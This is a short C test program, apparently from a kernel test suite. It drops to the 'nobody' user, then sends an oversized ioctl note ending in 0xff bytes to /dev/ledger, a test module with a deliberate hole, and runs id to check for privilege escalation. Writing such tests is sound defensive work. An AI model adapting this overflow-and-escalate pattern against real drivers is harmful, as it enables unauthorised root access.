// SPDX-License-Identifier: BSD-2-Clause
/*
 * Somebody without any rights finds the hole in /dev/ledger (tests/vm/modules/ledger), and looks who they are then.
 * Runs only where that module is: in the guest of the tests.
 */
#include <fcntl.h>
#include <grp.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

struct ledger_note {
	uint32_t length;
	uint32_t reserved;
	uint64_t text;
};

#define LEDGER_NOTE	_IOW('L', 1, struct ledger_note)
#define NOBODY		65534

int main(void)
{
	char text[36] = "hello";
	struct ledger_note note = { .length = 5, .text = (uintptr_t)text };
	int fd;

	if (setgroups(0, NULL) || setgid(NOBODY) || setuid(NOBODY)) {
		perror("intruder: cannot give up all rights");
		return 1;
	}
	fd = open("/dev/ledger", O_RDWR);
	if (fd < 0) {
		perror("intruder: /dev/ledger");
		return 1;
	}
	/* As everybody does. */
	if (ioctl(fd, LEDGER_NOTE, &note))
		perror("intruder: a note");
	memset(text + 32, 0xff, 4);
	note.length = sizeof(text);
	if (ioctl(fd, LEDGER_NOTE, &note))
		perror("intruder: a note of 36 bytes");
	execl("/usr/bin/id", "id", (char *)NULL);
	perror("intruder: id");
	return 1;
}
